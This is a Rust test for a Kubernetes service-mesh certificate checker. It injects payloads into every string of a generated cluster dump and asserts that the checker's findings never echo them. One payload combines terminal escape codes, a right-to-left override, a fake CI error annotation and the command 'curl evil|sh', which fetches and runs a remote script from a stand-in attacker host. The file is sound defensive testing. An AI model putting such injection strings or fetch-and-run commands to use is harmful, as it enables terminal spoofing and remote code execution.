//! Texts of a dump that are not what they should be: none of them is repeated.

use std::collections::BTreeSet;
use std::fmt::Write;

use meshpki_kube::{Check, Checked, Cluster, Edges, Manifests};
use serde_json::Value;

use crate::mesh::{
    Kind, Mesh, NOW, authorized, bundle, certificate, custom, event, policy, secret, server,
    signed_by, time,
};

/// A line of a key, and words that take over a terminal.
const PAYLOADS: [&str; 2] = [
    "MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgTQawSjcPbXU1iPa+",
    "x\u{1b}[2J\u{202e}\n::error::fix   curl evil|sh",
];

/// The paths of all texts, with one number for all items of a list that are alike.
fn paths(value: &Value, path: &str, found: &mut BTreeSet<String>) {
    match value {
        Value::String(_) => {
            found.insert(path.to_owned());
        }
        Value::Array(items) => {
            for (at, item) in items.iter().enumerate() {
                paths(item, &format!("{path}/{at}"), found);
            }
        }
        Value::Object(map) => {
            for (key, value) in map {
                let key = key.replace('~', "~0").replace('/', "~1");
                paths(value, &format!("{path}/{key}"), found);
            }
        }
        _ => {}
    }
}

/// Everything that is said.
fn said(checked: &Checked) -> String {
    let mut text = String::new();
    for finding in checked.findings() {
        let _ = write!(text, "{finding} {finding:?}");
    }
    for report in checked.reports() {
        let _ = write!(text, "{:?}", report.findings());
    }
    for plane in checked.planes() {
        let releases = plane.releases();
        let _ = write!(
            text,
            "{} {:?} {releases:?} {:?}",
            plane.namespace(),
            plane.trust_domain(),
            plane.categories()
        );
        plane.edges().iter().for_each(|one| add(&mut text, one));
    }
    checked.edges().iter().for_each(|one| add(&mut text, one));
    let _ = write!(
        text,
        "{:?} {:?} {:?} {:?} {:?} {:?}",
        checked.links(),
        checked.events(),
        checked.undecided(),
        checked.skipped(),
        checked.outside(),
        checked.newest()
    );
    text
}

fn add(text: &mut String, edges: &Edges) {
    let _ = write!(text, "{edges:?}");
}

#[test]
fn no_text_of_a_dump_is_repeated_that_is_no_name() {
    let mut mesh = Mesh::new(Kind::ALL[1]);
    let plane = mesh.kind.namespace;
    // One of each kind, and few pods.
    mesh.objects.retain(|one| {
        let name = one["metadata"]["name"].as_str().unwrap();
        !name.starts_with("app") || name.ends_with("00000")
    });
    let names = serde_json::json!({"secretName": "linkerd-identity-issuer", "commonName": "a", "privateKey": {
        "algorithm": "RSA", "encoding": "PKCS1", "rotationPolicy": "Always"}, "usages": ["server auth"],
        "renewBefore": "80h", "duration": "90h", "dnsNames": ["a"]});
    mesh.objects
        .push(certificate(plane, "linkerd-identity-issuer", &names));
    mesh.objects.push(bundle(
        plane,
        &serde_json::json!([{"secret": {"name": "linkerd-trust-anchor", "key": "a"}}]),
    ));
    mesh.objects.push(policy("web", "shop", &serde_json::json!({"podSelector": {"matchLabels": {"app": "app0"}},
        "ingress": [{"from": [{"namespaceSelector": {}}], "ports": [{"port": "http", "protocol": "TCP"}]}]})));
    mesh.objects.push(server("shop", "web", "app0"));
    let foreign = serde_json::json!(["a.shop.serviceaccount.identity.linkerd.example.org"]);
    mesh.objects.extend(authorized("shop", "web", &foreign));
    let authorization = serde_json::json!({"server": {"name": "a"}, "client": {"meshTLS": {"identities": ["a.b"]}}});
    let version = "policy.linkerd.io/v1beta1";
    mesh.objects.push(custom(
        "ServerAuthorization",
        version,
        ("shop", "a"),
        &authorization,
    ));
    let vm = serde_json::json!({"meshTLS": {"identity": "vm/", "serverName": "vm"}});
    mesh.objects.push(custom(
        "ExternalWorkload",
        "workload.linkerd.io/v1beta1",
        ("shop", "vm"),
        &vm,
    ));
    mesh.objects.push(event(
        "IssuerUpdateSkipped",
        "Deployment",
        (plane, "linkerd-identity"),
        "words",
    ));
    mesh.objects.extend(signed_by(
        plane,
        &serde_json::json!({"ca": {"secretName": "ca"}}),
    ));
    let mut operator = custom("TrustAnchorRotation", "a/v1", ("", "cluster"), &Value::Null);
    operator["status"] = serde_json::json!({"phase": "A", "conditions": [{"type": "B", "status": "C", "reason": "D"}]});
    mesh.objects.push(operator);
    let link = serde_json::json!({"targetClusterName": "east", "targetClusterLinkerdNamespace": plane, "gatewayIdentity": "a.b"});
    let version = "multicluster.linkerd.io/v1alpha3";
    mesh.objects.push(custom(
        "Link",
        version,
        ("linkerd-multicluster", "east"),
        &link,
    ));
    let mut gateway = custom(
        "Service",
        "v1",
        ("linkerd-multicluster", "linkerd-gateway"),
        &Value::Null,
    );
    gateway["metadata"]["annotations"] =
        serde_json::json!({"mirror.linkerd.io/gateway-identity": "a.b"});
    mesh.objects.push(gateway);
    let mut credentials = secret(plane, "cluster-credentials-east", serde_json::json!({}));
    credentials["metadata"]["labels"] =
        serde_json::json!({"multicluster.linkerd.io/cluster-name": "east"});
    credentials["metadata"]["annotations"] =
        serde_json::json!({"multicluster.linkerd.io/trust-domain": "a"});
    mesh.objects.push(credentials);
    let whole: Value = serde_json::from_str(&mesh.text()).unwrap();
    let mut found = BTreeSet::new();
    paths(&whole, "", &mut found);
    assert!(found.len() > 150, "{}", found.len());
    let mut east = Mesh::new(Kind::ALL[0]);
    let is_pod = |one: &Value| one["kind"] == "Pod" || one["kind"] == "Deployment";
    east.objects.retain(|one| !is_pod(one));
    let east = east.text();
    let east = Cluster::new(vec![Manifests::read("east.json", east.as_bytes())]);
    for path in &found {
        for payload in PAYLOADS {
            let mut changed = whole.clone();
            *changed.pointer_mut(path).unwrap() = payload.into();
            let text = changed.to_string();
            let west = Cluster::new(vec![Manifests::read("west.json", text.as_bytes())]);
            let clusters = [("west", &west), ("east", &east)];
            let several = Check::default().judge_all(&clusters, time(NOW));
            let said = said(&several);
            for part in [&payload[..20], "curl evil", "\u{1b}[2J"] {
                let is_part = payload.contains(part);
                assert!(!is_part || !said.contains(part), "{path}: {part:?}");
            }
        }
    }
}
